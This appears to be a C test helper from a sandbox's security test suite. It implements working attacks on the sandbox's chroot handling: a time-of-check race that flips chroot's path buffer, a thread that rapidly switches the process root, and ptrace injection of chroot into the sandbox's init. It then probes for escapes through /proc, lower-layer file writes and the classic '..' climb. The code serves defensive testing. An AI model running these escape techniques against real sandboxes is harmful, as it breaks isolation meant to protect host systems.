/* vt-chroot: attacks on chroot(2) inside the sandbox (tests/security).
 *
 * usage: vt-chroot race TRIES MARK PLANT BENIGN ATTACK
 *        vt-chroot flip TRIES MARK PLANT DIR_A DIR_B
 *        vt-chroot inject PID PATH
 *
 * race: TRIES times, a child chroots on a buffer that a second thread
 * flips between BENIGN (a directory of the union) and ATTACK, so that the
 * kernel, which reads chroot's path again after the supervisor checked
 * it, may take another root than the one checked.  The parent reads the
 * root the child got (/proc/CHILD/root, the kernel's text) and prints
 *     t<N> root=<path>
 * for every root that is not BENIGN; that child then tries to reach what
 * the view guards from the new root: creates by absolute and cwd-relative
 * names (the cwd stays outside the root), a write to lw/file (a lower
 * file; cwd-relative and through /proc/1/root), creates and a symlink to
 * PLANT through /proc (an fd kept from before the chroot), and the
 * classic escape (chdir "../../../.." from a cwd outside the root).  Each
 * prints
 *     t<N> <probe> <name>: ok | <ERRNO>
 * where <name> holds MARK.  The last line is
 *     race tries=N won=N failed=N
 * (won: the root differs from BENIGN; failed: chroot failed).  With
 * BENIGN the same as ATTACK there is no race: every root is probed.
 *
 * flip: a second thread switches the process's root (and cwd) between
 * DIR_A and DIR_B as fast as it can (fchdir to a kept fd, chroot "."),
 * so that the root the supervisor reads for a call is not the one the
 * kernel uses when it goes on with it; meanwhile TRIES times, create,
 * mkdir and symlink (to PLANT) by absolute and relative names.  Prints
 *     t<N> <probe> <name>: ok | <ERRNO>
 * then "dir: <name>" for every name in DIR_B (read through its fd: it
 * may be a directory the host cannot see, the sandbox's /dev/shm) and
 * "flip tries=N switches=N".
 *
 * inject: stop process PID (pid 1 of the sandbox: its init) with ptrace,
 * make it call chroot(PATH) as if it had itself, and let it go on where
 * it was.  Prints "inject chroot(PATH) = 0" or "= -ERRNO".
 *
 * Exits 0 when it ran (the test judges the outcome), 2 on bad usage or a
 * set-up failure.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static char buf[4096];
static const char *benign, *attack;
static atomic_int stop_flipping;

static void die(const char *what)
{
	fprintf(stderr, "vt-chroot: %s: %s\n", what, strerror(errno));
	exit(2);
}

static const char *err_name(int e)
{
	switch (e) {
	case EROFS: return "EROFS";
	case EACCES: return "EACCES";
	case EPERM: return "EPERM";
	case ENOENT: return "ENOENT";
	case ENOTDIR: return "ENOTDIR";
	case EEXIST: return "EEXIST";
	case EXDEV: return "EXDEV";
	case ELOOP: return "ELOOP";
	case EISDIR: return "EISDIR";
	case ESTALE: return "ESTALE";
	case EINVAL: return "EINVAL";
	case ENOSYS: return "ENOSYS";
	default: return "EOTHER";
	}
}

static void *flipper(void *arg)
{
	(void)arg;
	while (!atomic_load_explicit(&stop_flipping, memory_order_relaxed)) {
		strcpy(buf, attack);
		strcpy(buf, benign);
	}
	return NULL;
}

static void report(int try, const char *probe, const char *name, int r)
{
	if (r >= 0)
		printf("t%d %s %s: ok\n", try, probe, name);
	else
		printf("t%d %s %s: %s\n", try, probe, name, err_name(errno));
	fflush(stdout);
}

static int creat_at(int dirfd, const char *name)
{
	int fd = openat(dirfd, name, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0644);

	if (fd >= 0)
		close(fd);
	return fd;
}

static int append_at(int dirfd, const char *path, const char *mark)
{
	int fd = openat(dirfd, path, O_WRONLY | O_APPEND | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = write(fd, mark, strlen(mark));
	close(fd);
	return n < 0 ? -1 : 0;
}

/* What a child whose root is not BENIGN tries, after the chroot. */
static void probe(int try, const char *mark, const char *plant, int procfd)
{
	char name[256], path[512];

#define NAME(op) snprintf(name, sizeof(name), "%s-t%d-%s", mark, try, op)
	NAME("absmkdir");
	snprintf(path, sizeof(path), "/%s", name);
	report(try, "abs-mkdir", name, mkdir(path, 0755));
	NAME("abscreat");
	snprintf(path, sizeof(path), "/%s", name);
	report(try, "abs-creat", name, creat_at(AT_FDCWD, path));
	NAME("cwdmkdir");
	report(try, "cwd-mkdir", name, mkdir(name, 0755));
	NAME("cwdcreat");
	report(try, "cwd-creat", name, creat_at(AT_FDCWD, name));
	report(try, "cwd-lower-write", "lw/file", append_at(AT_FDCWD, "lw/file", mark));
	NAME("cwdlower");
	snprintf(path, sizeof(path), "lw/%s", name);
	report(try, "cwd-lower-creat", name, creat_at(AT_FDCWD, path));
	NAME("initcreat");
	snprintf(path, sizeof(path), "1/root/%s", name);
	report(try, "proc-init-creat", name, creat_at(procfd, path));
	report(try, "proc-init-lower-write", "lw/file", append_at(procfd, "1/root/lw/file", mark));
	NAME("dotdotmkdir");
	snprintf(path, sizeof(path), "self/../../%s", name);
	report(try, "proc-dotdot-mkdir", name, mkdirat(procfd, path, 0755));
	NAME("plant");
	snprintf(path, sizeof(path), "1/root/%s", name);
	report(try, "proc-plant", name, symlinkat(plant, procfd, path));
	NAME("cwdplant");
	report(try, "cwd-plant", name, symlink(plant, name));
	/* the classic escape: a cwd outside the root climbs past it */
	NAME("escape");
	if (chdir("../../../../../../..") < 0) {
		report(try, "escape-chdir", "..", -1);
		return;
	}
	report(try, "escape-creat", name, creat_at(AT_FDCWD, name));
	NAME("escapemkdir");
	report(try, "escape-mkdir", name, mkdir(name, 0755));
#undef NAME
}

static int race_child(void)
{
	pthread_t t;
	int r, e;

	atomic_store(&stop_flipping, 0);
	strcpy(buf, benign);
	if (pthread_create(&t, NULL, flipper, NULL) != 0)
		return -EAGAIN;
	r = (int)syscall(SYS_chroot, buf);
	e = errno;
	atomic_store(&stop_flipping, 1);
	pthread_join(t, NULL);
	return r < 0 ? -e : 0;
}

static int race(int tries, const char *mark, const char *plant)
{
	char benign_root[4096] = "";
	int won = 0, failed = 0;
	int procfd = open("/proc", O_PATH | O_DIRECTORY | O_CLOEXEC);

	if (procfd < 0)
		die("open /proc");
	/* (a removed directory has no real path: only the direct case has one) */
	if (!realpath(benign, benign_root) && strcmp(benign, attack) != 0)
		die("realpath BENIGN");
	for (int i = 0; i < tries; i++) {
		int up[2], down[2], status;
		char go, link[64], root[4096];
		int result;
		ssize_t n;
		pid_t pid;

		if (pipe2(up, O_CLOEXEC) < 0 || pipe2(down, O_CLOEXEC) < 0)
			die("pipe");
		pid = fork();
		if (pid < 0)
			die("fork");
		if (pid == 0) {
			result = race_child();
			if (write(up[1], &result, sizeof(result)) != sizeof(result) ||
			    read(down[0], &go, 1) != 1)
				_exit(2);
			if (go == 'p')
				probe(i, mark, plant, procfd);
			_exit(0);
		}
		close(up[1]);
		close(down[0]);
		if (read(up[0], &result, sizeof(result)) != sizeof(result))
			die("read the child's result");
		go = 's';
		if (result < 0) {
			failed++;
		} else {
			snprintf(link, sizeof(link), "/proc/%d/root", (int)pid);
			n = readlink(link, root, sizeof(root) - 1);
			if (n < 0)
				die("readlink the child's root");
			root[n] = '\0';
			/* BENIGN == ATTACK: no race, every root is probed */
			if (strcmp(root, benign_root) != 0 || strcmp(benign, attack) == 0) {
				won++;
				printf("t%d root=%s\n", i, root);
				fflush(stdout);
				go = 'p';
			}
		}
		if (write(down[1], &go, 1) != 1)
			die("tell the child");
		close(up[0]);
		close(down[1]);
		if (waitpid(pid, &status, 0) < 0)
			die("waitpid");
	}
	printf("race tries=%d won=%d failed=%d\n", tries, won, failed);
	return 0;
}

static int flip_fd[2];
static atomic_long switches;

static void *root_switcher(void *arg)
{
	(void)arg;
	for (int i = 0; !atomic_load_explicit(&stop_flipping, memory_order_relaxed); i ^= 1)
		if (fchdir(flip_fd[i]) == 0 && chroot(".") == 0)
			atomic_fetch_add_explicit(&switches, 1, memory_order_relaxed);
	return NULL;
}

static int flip(int tries, const char *mark, const char *plant, const char *a, const char *b)
{
	char name[256], path[300];
	struct dirent *de;
	pthread_t t;
	DIR *dir;

	flip_fd[0] = open(a, O_PATH | O_DIRECTORY | O_CLOEXEC);
	flip_fd[1] = open(b, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (flip_fd[0] < 0 || flip_fd[1] < 0)
		die("open DIR_A, DIR_B");
	if (pthread_create(&t, NULL, root_switcher, NULL) != 0)
		die("pthread_create");
	for (int i = 0; i < tries; i++) {
#define NAME(op) snprintf(name, sizeof(name), "%s-f%d-%s", mark, i, op)
		NAME("mkdir");
		snprintf(path, sizeof(path), "/%s", name);
		report(i, "abs-mkdir", name, mkdir(path, 0755));
		NAME("creat");
		snprintf(path, sizeof(path), "/%s", name);
		report(i, "abs-creat", name, creat_at(AT_FDCWD, path));
		NAME("plant");
		snprintf(path, sizeof(path), "/%s", name);
		report(i, "abs-plant", name, symlink(plant, path));
		NAME("relcreat");
		report(i, "rel-creat", name, creat_at(AT_FDCWD, name));
		NAME("dotdot");
		snprintf(path, sizeof(path), "../../../%s", name);
		report(i, "dotdot-mkdir", name, mkdir(path, 0755));
#undef NAME
	}
	atomic_store(&stop_flipping, 1);
	pthread_join(t, NULL);
	dir = fdopendir(flip_fd[1]);
	if (!dir)
		die("fdopendir DIR_B");
	while ((de = readdir(dir)))
		if (de->d_name[0] != '.')
			printf("dir: %s\n", de->d_name);
	printf("flip tries=%d switches=%ld\n", tries, atomic_load(&switches));
	return 0;
}

/* Make PID call chroot(path), ptrace-injected at its next stop. */
static int inject(pid_t pid, const char *path)
{
	struct user_regs_struct saved, regs;
	size_t len = strlen(path) + 1;
	unsigned long addr;
	long word, result;
	int status;

	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		die("PTRACE_SEIZE");
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0)
		die("PTRACE_INTERRUPT");
	if (waitpid(pid, &status, __WALL) < 0)
		die("waitpid (interrupt)");
	if (ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0)
		die("PTRACE_GETREGS");
	/* stopped on the way out of a call: its syscall instruction is just
	 * behind the instruction pointer */
	errno = 0;
	word = ptrace(PTRACE_PEEKTEXT, pid, saved.rip - 2, 0);
	if (errno || (word & 0xffff) != 0x050f) {
		fprintf(stderr, "vt-chroot: %d is not stopped after a syscall instruction\n", (int)pid);
		exit(2);
	}
	/* the path, below the red zone of the stack */
	addr = (saved.rsp - 4096 - len) & ~15ul;
	for (size_t off = 0; off < len; off += sizeof(long)) {
		word = 0;
		memcpy(&word, path + off, len - off < sizeof(long) ? len - off : sizeof(long));
		if (ptrace(PTRACE_POKEDATA, pid, addr + off, word) < 0)
			die("PTRACE_POKEDATA");
	}
	regs = saved;
	regs.rip = saved.rip - 2;
	regs.rax = SYS_chroot;
	regs.orig_rax = (unsigned long)-1; /* no restart of the interrupted call */
	regs.rdi = addr;
	if (ptrace(PTRACE_SETREGS, pid, 0, &regs) < 0)
		die("PTRACE_SETREGS");
	/* to the call's entry, then its exit */
	for (int stop = 0; stop < 2; stop++) {
		if (ptrace(PTRACE_SYSCALL, pid, 0, 0) < 0)
			die("PTRACE_SYSCALL");
		if (waitpid(pid, &status, __WALL) < 0)
			die("waitpid (syscall)");
		if (!WIFSTOPPED(status)) {
			fprintf(stderr, "vt-chroot: %d ended during the injected call\n", (int)pid);
			exit(2);
		}
	}
	if (ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0)
		die("PTRACE_GETREGS (result)");
	result = (long)regs.rax;
	/* back where it was: its interrupted call returns EINTR */
	saved.rax = (unsigned long)-EINTR;
	saved.orig_rax = (unsigned long)-1;
	if (ptrace(PTRACE_SETREGS, pid, 0, &saved) < 0)
		die("PTRACE_SETREGS (restore)");
	if (ptrace(PTRACE_DETACH, pid, 0, 0) < 0)
		die("PTRACE_DETACH");
	if (result < 0)
		printf("inject chroot(%s) = -%s\n", path, err_name((int)-result));
	else
		printf("inject chroot(%s) = %ld\n", path, result);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 7 && strcmp(argv[1], "race") == 0) {
		benign = argv[5];
		attack = argv[6];
		if (strlen(benign) >= sizeof(buf) || strlen(attack) >= sizeof(buf))
			return 2;
		return race(atoi(argv[2]), argv[3], argv[4]);
	}
	if (argc == 7 && strcmp(argv[1], "flip") == 0)
		return flip(atoi(argv[2]), argv[3], argv[4], argv[5], argv[6]);
	if (argc == 4 && strcmp(argv[1], "inject") == 0)
		return inject((pid_t)atoi(argv[2]), argv[3]);
	fprintf(stderr, "usage: vt-chroot race TRIES MARK PLANT BENIGN ATTACK\n"
			"       vt-chroot flip TRIES MARK PLANT DIR_A DIR_B\n"
			"       vt-chroot inject PID PATH\n");
	return 2;
}
